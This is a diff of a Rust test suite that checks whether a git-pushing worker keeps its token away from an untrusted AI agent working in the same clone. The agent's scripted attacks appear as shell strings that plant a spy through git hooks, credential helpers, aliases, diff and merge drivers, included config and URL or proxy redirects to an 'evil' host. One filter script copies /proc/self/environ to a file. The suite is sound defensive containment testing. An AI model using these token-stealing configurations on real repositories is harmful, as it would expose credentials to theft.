@@ -1,8 +1,8 @@
 //! For people who give a worker a git token: an agent may leave programs in its clone, its HOME or its PATH, but
 //! the worker runs none of them while a process has the token, and still pushes the work.
 //!
-//! In every test the agent installs a spy where a careless worker's git would run it. The spy is a
-//! program that writes its environment, and that of every other process except the workers, to a
+//! In every test the agent installs a spy in a place where a careless worker's git would run it. The spy is a
+//! program that writes its environment, and the environment of every other process except the workers, to a
 //! file. (Nothing protects a worker from an agent that is root, as it is in some test environments.)
 
 mod contents;
@@ -17,6 +17,7 @@ use serde_json::Value;
 use crate::support::origin::write_program;
 use crate::support::{Forge, Origin, Receiver, duration_setting, path, quoted, with_enough_time};
 
+/// The branch to which workers for task 8 push by default.
 const BRANCH: &str = "descartes/proj-456/8";
 
 /// The idle timeout of git for tests that do not make git wait: git may be slow on a busy machine.
@@ -56,28 +57,30 @@ impl Setup {
         }
     }
 
+    /// The path of the spy.
     fn spy(&self) -> PathBuf {
         self.origin.path("spy")
     }
 
+    /// What the spy has written; empty if it never ran.
     fn spy_output(&self) -> String {
         fs::read_to_string(self.origin.path("spy_output")).unwrap_or_default()
     }
 
     /// Runs an agent that does its work and then the attack, and asserts that the spy did not see the
-    /// token; returns the terminal event. In the attack, `$SPY` is the path of the spy, `$RUN` a shell
-    /// command that runs it, and `$AT` a directory outside the project that the agent can write.
+    /// token; returns the terminal event. In the attack, `$SPY` is the path of the spy, `$RUN_SPY` is a shell
+    /// command that runs it, and `$OUTSIDE` is a directory outside the project that the agent can write.
     #[track_caller]
     fn attack(&self, attack: &str) -> Value {
-        self.attack_within(LONG_GIT_IDLE_TIMEOUT, attack)
+        self.attack_with_git_idle_timeout(LONG_GIT_IDLE_TIMEOUT, attack)
     }
 
     /// Like [`Self::attack`], with another value of `DESCARTES_GIT_IDLE_TIMEOUT`.
     #[track_caller]
-    fn attack_within(&self, git_idle_timeout: &str, attack: &str) -> Value {
+    fn attack_with_git_idle_timeout(&self, git_idle_timeout: &str, attack: &str) -> Value {
         let path = format!("{}:{}", self.origin.path("bin").display(), path().display());
         let agent = format!(
-            "SPY={}; RUN={}; AT={}; echo done > DONE\n{attack}\nrm -f \"$AT/spy_output\"; true",
+            "SPY={}; RUN_SPY={}; OUTSIDE={}; echo done > DONE\n{attack}\nrm -f \"$OUTSIDE/spy_output\"; true",
             quoted(self.spy()),
             quoted(quoted(self.spy())),
             quoted(self.origin.path("tmp").parent().expect("a parent"))
@@ -124,7 +127,7 @@ impl Setup {
 fn assert_harmless_although_git_waits(attack: &str) {
     with_enough_time(Duration::from_secs(5), |limit| {
         let setup = Setup::new();
-        let event = setup.attack_within(&duration_setting(limit), attack);
+        let event = setup.attack_with_git_idle_timeout(&duration_setting(limit), attack);
         if event["status"] != "completed" {
             return Err(format!("the work was not pushed: {event:#}"));
         }
@@ -151,7 +154,7 @@ fn the_spy_writes_down_a_token_in_its_environment() {
 #[test]
 fn the_agents_own_processes_do_not_see_the_token() {
     let setup = Setup::new();
-    let event = setup.attack(r#""$SPY" < /dev/null; mv "$AT/spy_output" "$AT/kept""#);
+    let event = setup.attack(r#""$SPY" < /dev/null; mv "$OUTSIDE/spy_output" "$OUTSIDE/kept""#);
     assert_eq!(event["status"], "completed");
     let seen = fs::read_to_string(setup.origin.path("kept")).unwrap();
     assert!(
@@ -173,7 +176,7 @@ fn hooks_do_not_run() {
 #[test]
 fn a_file_system_monitor_does_not_run() {
     Setup::new().assert_harmless(
-        r#"git config core.fsmonitor "$RUN"; git config --global core.fsmonitor "$RUN""#,
+        r#"git config core.fsmonitor "$RUN_SPY"; git config --global core.fsmonitor "$RUN_SPY""#,
     );
 }
 
@@ -181,8 +184,8 @@ fn a_file_system_monitor_does_not_run() {
 fn an_ssh_command_does_not_run() {
     let setup = Setup::new();
     let attack = format!(
-        "for where in --local --global; do git config $where core.sshCommand \"$RUN\"
-         git config $where ssh.variant simple; git config $where url.ssh://evil/.insteadOf {}/; done",
+        "for scope in --local --global; do git config $scope core.sshCommand \"$RUN_SPY\"
+         git config $scope ssh.variant simple; git config $scope url.ssh://evil/.insteadOf {}/; done",
         setup.forge.base_url()
     );
     setup.assert_harmless(&attack);
@@ -192,8 +195,8 @@ fn an_ssh_command_does_not_run() {
 fn a_credential_helper_is_not_asked() {
     let setup = Setup::new();
     let attack = format!(
-        "for where in --local --global; do git config $where credential.helper \"!$RUN\"
-         git config $where credential.{}.helper \"!$RUN\"; done
+        "for scope in --local --global; do git config $scope credential.helper \"!$RUN_SPY\"
+         git config $scope credential.{}.helper \"!$RUN_SPY\"; done
          printf 'machine 127.0.0.1 login agent password guessed\\n' > \"$HOME/.netrc\"",
         setup.forge.base_url()
     );
@@ -210,9 +213,9 @@ fn rewritten_urls_and_proxies_are_ignored() {
     let setup = Setup::new();
     let evil = Forge::start(&setup.origin.path(""), None);
     let attack = format!(
-        "for where in --local --global; do git config $where url.{evil}/.insteadOf {base}/
-         git config $where url.{evil}/.pushInsteadOf {base}/; git config $where http.proxy {evil}
-         git config $where remote.origin.url {evil}/project.git; done",
+        "for scope in --local --global; do git config $scope url.{evil}/.insteadOf {base}/
+         git config $scope url.{evil}/.pushInsteadOf {base}/; git config $scope http.proxy {evil}
+         git config $scope remote.origin.url {evil}/project.git; done",
         evil = evil.base_url(),
         base = setup.forge.base_url()
     );
@@ -223,15 +226,15 @@ fn rewritten_urls_and_proxies_are_ignored() {
 #[test]
 fn a_program_that_asks_for_passwords_does_not_run() {
     Setup::new().assert_harmless(
-        r#"for where in --local --global; do git config $where core.askPass "$SPY"; done"#,
+        r#"for scope in --local --global; do git config $scope core.askPass "$SPY"; done"#,
     );
 }
 
 #[test]
 fn configured_diff_programs_do_not_run() {
     Setup::new().assert_harmless(
-        r#"for where in --local --global; do git config $where diff.external "$RUN"; git config $where diff.spy.textconv "$RUN"
-         git config $where diff.spy.command "$RUN"; git config $where core.pager "$RUN"; git config $where interactive.diffFilter "$RUN"; done
+        r#"for scope in --local --global; do git config $scope diff.external "$RUN_SPY"; git config $scope diff.spy.textconv "$RUN_SPY"
+         git config $scope diff.spy.command "$RUN_SPY"; git config $scope core.pager "$RUN_SPY"; git config $scope interactive.diffFilter "$RUN_SPY"; done
          echo '* diff=spy' > .gitattributes; mkdir -p .git/info; echo '* diff=spy' > .git/info/attributes; echo changed >> README"#,
     );
 }
@@ -239,19 +242,19 @@ fn configured_diff_programs_do_not_run() {
 #[test]
 fn aliases_do_not_run() {
     Setup::new().assert_harmless(
-        "for where in --local --global; do for command in init add write-tree commit-tree rev-parse rev-list push diff \
-         cat-file merge-base read-tree; do git config $where alias.$command \"!$RUN\"; done; done",
+        "for scope in --local --global; do for command in init add write-tree commit-tree rev-parse rev-list push diff \
+         cat-file merge-base read-tree; do git config $scope alias.$command \"!$RUN_SPY\"; done; done",
     );
 }
 
 #[test]
 fn included_configuration_is_ignored() {
     assert_harmless_although_git_waits(
-        r#"set_evil() { git config --file "$AT/evil" "$@"; }
-         set_evil core.fsmonitor "$RUN"; set_evil core.sshCommand "$RUN"; set_evil core.askPass "$SPY"
-         set_evil credential.helper "!$RUN"; git config include.path "$AT/evil"; git config --global include.path "$AT/evil"
-         git config includeIf.gitdir:/.path "$AT/evil"
-         mkfifo "$AT/fifo"; git config --add include.path "$AT/fifo""#,
+        r#"set_evil() { git config --file "$OUTSIDE/evil" "$@"; }
+         set_evil core.fsmonitor "$RUN_SPY"; set_evil core.sshCommand "$RUN_SPY"; set_evil core.askPass "$SPY"
+         set_evil credential.helper "!$RUN_SPY"; git config include.path "$OUTSIDE/evil"; git config --global include.path "$OUTSIDE/evil"
+         git config includeIf.gitdir:/.path "$OUTSIDE/evil"
+         mkfifo "$OUTSIDE/fifo"; git config --add include.path "$OUTSIDE/fifo""#,
     );
 }
 
@@ -268,14 +271,14 @@ fn filters_that_the_agent_configured_run_without_the_token() {
     let setup = Setup::new();
     let filter = quoted(quoted(setup.origin.path("clean")));
     let event = setup.attack(&format!(
-        r#"cat > "$AT/clean" <<'END'
+        r#"cat > "$OUTSIDE/clean" <<'END'
 #!/bin/sh
-at=${{0%/*}}
-echo ran >> "$at/ran"
-tr '\0' '\n' < /proc/self/environ >> "$at/spy_output"
+outside=${{0%/*}}
+echo ran >> "$outside/ran"
+tr '\0' '\n' < /proc/self/environ >> "$outside/spy_output"
 tr a-z A-Z
 END
-         chmod +x "$AT/clean"; for where in --local --global; do git config $where filter.spy.clean {filter}; done
+         chmod +x "$OUTSIDE/clean"; for scope in --local --global; do git config $scope filter.spy.clean {filter}; done
          echo 'new filter=spy' > .gitattributes; echo new > new; echo ignored >> .git/info/exclude; touch ignored"#
     ));
     assert_eq!(event["status"], "completed", "{event}");
@@ -291,7 +294,7 @@ fn a_merge_driver_in_the_agents_attributes_does_not_run() {
     setup.assert_harmless(
         r#"mkdir -p .git/info "$HOME/.config/git"; for file in .gitattributes .git/info/attributes "$HOME/.config/git/attributes"; do
          echo '* merge=spy text eol=crlf' > "$file"; done
-         for where in --local --global; do git config $where merge.spy.driver "$RUN"; done; touch README; echo new > new"#,
+         for scope in --local --global; do git config $scope merge.spy.driver "$RUN_SPY"; done; touch README; echo new > new"#,
     );
     assert_eq!(setup.origin.show(BRANCH, "new"), "new");
 }
